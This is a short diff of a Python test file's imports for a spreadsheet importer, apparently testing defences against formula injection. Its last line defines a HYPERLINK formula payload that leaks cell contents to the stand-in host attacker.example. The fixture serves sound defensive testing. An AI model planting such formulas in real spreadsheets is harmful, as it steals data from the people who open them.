@@ -11,9 +11,9 @@ from openpyxl import load_workbook
 
 from editorial.importer.runner import preview
 from editorial.importer.validation import RowValidator
-from services_catalog.factories import ServicePageFactory
 from services_catalog.models import ServicePage
 from tests.editorial.files import csv_bytes, service_row
+from tests.factories import ServicePageFactory
 from webperf.spreadsheets import csv_cell, is_formula_like
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1&B1,"Dettagli")'
